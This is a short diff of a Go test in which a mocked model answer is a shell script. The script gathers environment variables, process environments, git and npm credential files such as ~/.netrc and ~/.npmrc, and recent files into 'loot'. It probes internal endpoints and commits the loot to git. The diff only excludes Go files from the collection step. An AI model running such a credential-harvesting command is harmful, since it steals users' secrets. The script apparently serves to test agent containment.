@@ -48,7 +48,7 @@ channels:
 		t.Fatal(err)
 	}
 	collect := `{ cat ~/installed; env; set; cat /proc/*/environ /proc/*/cmdline; ls -l /proc/*/fd; git config --list; cat .git/config ~/.netrc ~/.npmrc ~/.gitconfig
-		find / -xdev -type f -newermt yesterday -size -200k -not -path '/proc/*' -not -path '/sys/*' -not -path '/usr/*' -print0 | head -z -n 3000 | xargs -0 cat | head -c 6M
+		find / -xdev -type f -newermt yesterday -size -200k -not -path '/proc/*' -not -path '/sys/*' -not -path '/usr/*' -not -name '*.go' -print0 | head -z -n 3000 | xargs -0 cat | head -c 6M
 		curl -s --max-time 5 -k https://npm.corp.example/-/whoami; curl -s --max-time 5 "$ANTHROPIC_BASE_URL/v1/models"; } >loot 2>/dev/null
 		grep -c . loot; grep -q installed loot && echo collec''ted; git add -f loot; git commit -qm 'Collect'; strings loot | tail -c 20000`
 	w.model.Answer("collect",
